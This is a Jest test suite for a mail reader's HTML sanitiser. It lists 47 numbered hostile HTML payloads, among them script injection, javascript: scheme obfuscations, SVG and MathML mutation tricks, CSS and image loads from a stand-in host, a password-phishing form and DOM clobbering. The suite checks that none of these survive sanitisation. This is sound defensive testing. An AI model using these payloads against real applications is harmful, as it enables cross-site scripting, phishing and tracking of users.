import { describe, expect, it } from '@jest/globals';
import { Parser } from 'htmlparser2';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from './allowed.js';
import { sanitiseHtml } from './sanitise-html.js';

/** The numbered kinds of attacks on a mail reader; each line is one payload. `note` stands for code. */
const PAYLOADS: [string, string][] = [
  ['HTML-01 script', '<script>note(1)</script><SCRIPT SRC=//x.test/a.js></SCRIPT>'],
  ['HTML-02 image error handler', '<img src=x onerror=note(1)>'],
  ['HTML-03 script scheme', '<a href="javascript:note(1)">x</a>'],
  [
    'HTML-04 script scheme with tab',
    '<a href="java\tscript:note(1)">x</a><a href="\u0001javascript:note(1)">y</a>',
  ],
  ['HTML-05 script scheme as entities', '<a href="&#106;avascript&colon;note(1)">x</a>'],
  ['HTML-06 script scheme in capitals', '<a href="JaVaScRiPt:note(1)">x</a><a href="vbscript:note(1)">x</a>'],
  ['HTML-07 data document', '<a href="data:text/html,<script>note(1)</script>">x</a>'],
  ['HTML-08 svg onload', '<svg onload=note(1)><g onload=note(1)></g></svg>'],
  [
    'HTML-09 svg animate',
    '<svg><a><animate attributeName=href values=javascript:note(1) /><text>x</text></a></svg>',
  ],
  ['HTML-10 svg animate by', '<svg><a xlink:href=#><set attributeName=href to=javascript:note(1)></a></svg>'],
  [
    'HTML-11 math and mglyph',
    '<math><mtext><table><mglyph><style><img src=x onerror=note(1)></style></table></math>',
  ],
  ['HTML-12 noscript', '<noscript><p title="</noscript><img src=x onerror=note(1)>"></noscript>'],
  ['HTML-13 form', '<form action="https://x.test/login">Password<input name=p><input type=submit></form>'],
  ['HTML-14 input with handler', '<input autofocus onfocus=note(1)>'],
  ['HTML-15 button formaction', '<button formaction=javascript:note(1)>Go</button>'],
  ['HTML-16 meta refresh', '<meta http-equiv=refresh content="0;url=https://x.test">'],
  ['HTML-17 base', '<base href="https://x.test/"><a href="login">x</a>'],
  ['HTML-18 iframe srcdoc', '<iframe srcdoc="<script>note(1)</script>" src="https://x.test"></iframe>'],
  [
    'HTML-19 object',
    '<object data="https://x.test/a.swf" type="text/html"><param name=src value=x></object>',
  ],
  ['HTML-20 embed', '<embed src="https://x.test/a.svg">'],
  ['HTML-21 style import', '<style>@import "https://x.test/a.css";</style><p style="@import \'x\'">x</p>'],
  ['HTML-22 style url', '<p style="background:url(https://x.test/a.png);color:red">x</p>'],
  ['HTML-23 style escaped url', '<p style="background-color:u\\72 l(https://x.test/a.png)">x</p>'],
  ['HTML-24 style image-set', '<p style="background-image:image-set(\'https://x.test/a.png\' 1x)">x</p>'],
  ['HTML-25 overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>'],
  ['HTML-26 remote image', '<img src="https://x.test/pixel.gif?id=1">'],
  ['HTML-27 srcset', '<img srcset="https://x.test/a.png 2x" sizes=100vw>'],
  [
    'HTML-28 picture',
    '<picture><source srcset="https://x.test/a.webp"><img src="https://x.test/a.png"></picture>',
  ],
  [
    'HTML-29 video and audio',
    '<video poster=https://x.test/p><source src=https://x.test/v></video><audio src=//x.test/a>',
  ],
  [
    'HTML-30 background attribute',
    '<table background="https://x.test/b.png"><tr><td background=//x.test/c>x</table>',
  ],
  [
    'HTML-31 link prefetch',
    '<link rel=prefetch href="https://x.test/"><link rel=stylesheet href="//x.test/a.css">',
  ],
  ['HTML-32 ping', '<a href="https://shop.test/" ping="https://x.test/p">x</a>'],
  ['HTML-33 input image', '<input type=image src="https://x.test/a.png">'],
  ['HTML-34 clobbering', '<a id=document name=cookie href="https://x.test/">x</a><form id=body></form>'],
  [
    'HTML-35 conditional comment',
    '<!--[if mso]><script>note(1)</script><![endif]--><![if !mso]><p>x</p><![endif]>',
  ],
  ['HTML-36 target', '<a href="https://shop.test/" target=_top>x</a>'],
  ['HTML-37 no scheme', '<a href="//x.test/">x</a><img src="//x.test/a.png"><a href="\\\\x.test/">y</a>'],
  ['HTML-38 data svg', '<img src="data:image/svg+xml,<svg onload=note(1)>">'],
  [
    'HTML-39 VML',
    '<v:rect><v:fill src="https://x.test/a.png" onload=note(1) /></v:rect><xml:namespace ns=x>',
  ],
  [
    'HTML-40 raw text',
    '<xmp><img src=x onerror=note(1)></xmp><textarea></textarea><script>note(1)</script></textarea>',
  ],
  ['HTML-41 braces', '<p>{{constructor.constructor("note(1)")()}}</p><p>${note(1)}</p>'],
  ['HTML-42 bidi', '<bdo dir=rtl>fdp.eliforp</bdo> \u202Egpj.exe'],
  ['HTML-43 expression', '<p style="width:expression(note(1));behavior:url(#x);-moz-binding:url(x)">x</p>'],
  ['HTML-44 no space', '<img/src="x"/onerror=note(1)><svg/onload=note(1)>'],
  ['HTML-45 NUL', '<a hr\0ef="java\0script:note(1)" on\0click=note(1)>x</a><scr\0ipt>note(1)</script>'],
  ['HTML-46 details', '<details open ontoggle=note(1)><summary>x</summary></details>'],
  ['HTML-47 popover', '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=note(1)>y</div>'],
];

/** Everything in `html` that is not on the closed lists, as a browser-like parser sees it. */
function violations(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ALLOWED_TAGS.includes(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        const allowed = [...(ALLOWED_ATTRIBUTES['*'] ?? []), ...(ALLOWED_ATTRIBUTES[name] ?? [])];
        if (!allowed.includes(attribute)) found.push(`${name} ${attribute}`);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) found.push(value);
        if (attribute === 'src' && !value.startsWith('/files/')) found.push(value);
        if (attribute === 'style' && /[\\@()'"]|url|position|expression|image-set/i.test(value))
          found.push(value);
      }
      if (attributes.href && attributes.target !== '_blank') found.push('target');
      if (attributes.href && attributes.rel !== 'noopener noreferrer nofollow ugc') found.push('rel');
    },
    oncomment: (comment) => found.push(`<!--${comment}`),
    onprocessinginstruction: (name) => found.push(name),
  });
  parser.end(html);
  return found;
}

const sanitised = (html: string) => sanitiseHtml(html, { attachmentUrl: (id) => `/files/${id}` });

describe('hostile HTML', () => {
  it.each(PAYLOADS)('%s leaves nothing that acts, loads or hides anything', (_kind, payload) => {
    expect(violations(sanitised(payload))).toEqual([]);
  });

  it.each(PAYLOADS)('%s stays harmless when sanitised again', (_kind, payload) => {
    const once = sanitised(payload);
    expect(violations(sanitised(once))).toEqual([]);
  });

  it('covers each of the 47 kinds', () => {
    expect(PAYLOADS.map(([kind]) => Number(kind.slice(5, 7)))).toEqual(
      Array.from({ length: 47 }, (_, i) => i + 1),
    );
  });

  it('is found by these checks in the payloads themselves', () => {
    const silent = PAYLOADS.filter(([, payload]) => violations(payload).length === 0).map(([kind]) => kind);
    expect(silent).toEqual(['HTML-41 braces']);
  });
});
